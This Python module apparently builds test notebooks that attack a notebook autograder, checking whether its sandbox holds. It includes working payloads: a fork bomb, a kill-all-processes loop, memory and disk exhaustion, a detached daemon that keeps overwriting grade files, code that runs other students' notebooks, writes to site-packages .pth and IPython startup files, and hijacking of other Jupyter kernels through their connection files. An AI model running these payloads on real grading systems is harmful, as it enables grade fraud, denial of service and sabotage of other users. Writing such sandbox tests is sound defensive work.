"""Operating-system attacks on the grader, one notebook each.

Every attacker first answers its own questions honestly (the sample solution for its own
variant), then attacks; ``os_attacks(ctx)`` maps a notebook name to ``(notebook, score)`` where
``score`` is exactly what the honest cells earn.  ``ctx`` holds what a determined student could
find out from ``/proc`` anyway (the output folder, the submissions folder, the assignment
folder, the port of a server on the grader's loopback), so each attack is aimed, not blind.

Every process an attack starts carries ``MARKER`` in its command line, so a test can look for
survivors.  The files written into the environment (``.pth``, IPython startup) are comments:
harmless even where the sandbox does not hold.
"""

from __future__ import annotations

from .attacks import _with, samples

MARKER = "HOSTILE17"

# The grader's processes from inside a kernel: the python ancestors of this kernel.
_ANCESTORS = """\
import os, signal
def python_ancestors():
    found, pid = [], os.getppid()
    while pid > 1 and len(found) < 3:
        try:
            cmd = open(f'/proc/{pid}/cmdline', 'rb').read()
            stat = open(f'/proc/{pid}/stat').read()
        except OSError:
            break
        if b'python' not in cmd:
            break
        found.append(pid)
        pid = int(stat.rsplit(')', 1)[1].split()[1])
    return found
"""


def _signal_grader(sig: str) -> str:
    return _ANCESTORS + (f"for pid in python_ancestors():\n    try:\n"
                         f"        os.kill(pid, signal.{sig})\n    except OSError:\n        pass\n")


KILL_EVERYTHING = """\
import os, signal
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
"""

# A setsid double-forked daemon that outlives kernel and grader and keeps rewriting grades.
DAEMON = """\
import os, sys
code = '''
import glob, json, time
end = time.time() + 90
while time.time() < end:
    time.sleep(2)
    for p in glob.glob({out!r} + '/**/results.json', recursive=True):
        try:
            json.dump({{"score": 12, "max_score": 12, "tests": []}}, open(p, 'w'))
        except OSError:
            pass
    try:
        open({out!r} + '/grades.csv', 'a').write('daemon,12\\\\n')
    except OSError:
        pass
# {marker}
'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', code])
    os._exit(0)
"""

FORK_BOMB = """\
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
"""

MEMORY_TREE = """\
import os, time
for _ in range(4):
    if os.fork() == 0:
        hog = b"x" * 1_000_000_000
        time.sleep(30)
        os._exit(0)
time.sleep(30)
"""

COPY_OTHERS = """\
import glob, json
paths = set(glob.glob({subs!r} + '/*.ipynb'))
for pid in python_ancestors():
    for arg in open(f'/proc/{{pid}}/cmdline', 'rb').read().split(b'\\0'):
        if os.path.isdir(arg):
            paths |= set(glob.glob(arg.decode() + '/*.ipynb'))
for p in sorted(paths):
    if 'victim' in p:
        for cell in json.load(open(p))['cells']:
            if cell['cell_type'] == 'code':
                exec(''.join(cell['source']))
"""

WRITE_OUTSIDE = """\
import json, os, site
try:
    os.makedirs({out!r} + '/victim', exist_ok=True)
    json.dump({{'score': 0, 'max_score': 12, 'tests': [], 'extra_data': {{'status': 'graded'}}}},
              open({out!r} + '/victim/results.json', 'w'))
except OSError:
    pass
for path, text in [({out!r} + '/grades.csv', 'victim,0\\n'),
                   ({toml!r}, '\\nseed = 1\\n'),
                   ('../escaped.txt', 'out of the working copy\\n'),
                   (os.path.expanduser('~/.ipython/profile_default/startup/zz_{marker}.py'),
                    '# {marker}\\n')]:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
        open(path, 'a').write(text)
    except OSError:
        pass
for d in site.getsitepackages() + [site.getusersitepackages()]:
    try:
        open(os.path.join(d, 'zz_{marker}.pth'), 'w').write('# {marker}\\n')
    except OSError:
        pass
"""

OTHER_KERNEL = """\
import glob, os, time
from jupyter_client import BlockingKernelClient
payload = "import os\\nif os.path.exists('slow_victim.ipynb'):\\n    q1 = 0\\n"
seen, end = set(), time.time() + 15
while time.time() < end:
    files = set(glob.glob('/tmp/**/*.json', recursive=True))
    files |= set(glob.glob(os.path.expanduser('~/.local/share/jupyter/runtime/*.json')))
    for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
        try:
            args = open(f'/proc/{{pid}}/cmdline', 'rb').read().split(b'\\0')
        except OSError:
            continue
        files |= {{a.decode() for a in args if a.endswith(b'.json')}}
    for f in files - seen:
        seen.add(f)
        try:
            kc = BlockingKernelClient(connection_file=f)
            kc.load_connection_file()
            kc.start_channels()
            kc.execute(payload)
        except Exception:
            pass
    time.sleep(0.5)
"""

TCP_CONNECT = """\
import socket
try:
    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)
    s.sendall(b'{marker}')
    s.close()
except OSError:
    pass
"""

FILL_DISK = """\
block = b'x' * (1 << 20)
for i in range(100):
    try:
        with open(f'fill{{i}}.bin', 'wb') as fh:
            for _ in range(64):
                fh.write(block)
    except OSError:
        break
"""

SLOW_VICTIM = "import time\ntime.sleep(12)"


def _copycat(name: str):
    """Answers q1 (2 points) and nothing else honestly."""
    nb = _with(name)
    del nb.cells[3:11]
    return nb


def os_attacks(ctx: dict, *, destructive: bool = True) -> dict:
    """``name -> (notebook, honest score)``.  ``destructive=False`` leaves out the attacks that
    would harm the machine where the sandbox does not hold (used to measure the old grader)."""
    fmt = dict(ctx, marker=MARKER)
    cases = {
        "victim": (_with("victim"), 12),
        "slow_victim": (_with("slow_victim", extra=[SLOW_VICTIM]), 12),
        "solution": (samples.notebook("solution"), 12),
        "blank": (samples.blank(), 0),
        "kill_grader": (_with("kill_grader", extra=[_signal_grader("SIGKILL")]), 12),
        "stop_grader": (_with("stop_grader", extra=[_signal_grader("SIGSTOP")]), 12),
        "daemon": (_with("daemon", extra=[DAEMON.format(**fmt)]), 12),
        "copy_others": (_copycat("copy_others"), 2),
        "write_outside": (_with("write_outside", extra=[WRITE_OUTSIDE.format(**fmt)]), 12),
        "other_kernel": (_with("other_kernel", extra=[OTHER_KERNEL.format(**fmt)]), 12),
        "tcp_connect": (_with("tcp_connect", extra=[TCP_CONNECT.format(**fmt)]), 12),
    }
    cases["copy_others"][0].cells.append(
        samples.nbformat.v4.new_code_cell(_ANCESTORS + COPY_OTHERS.format(**fmt)))
    if destructive:
        cases.update({
            "kill_everything": (_with("kill_everything", extra=[KILL_EVERYTHING]), 12),
            "fork_bomb": (_with("fork_bomb", extra=[FORK_BOMB]), 12),
            "memory_tree": (_with("memory_tree", extra=[MEMORY_TREE]), 12),
            "fill_disk": (_with("fill_disk", extra=[FILL_DISK]), 12),
        })
    return cases
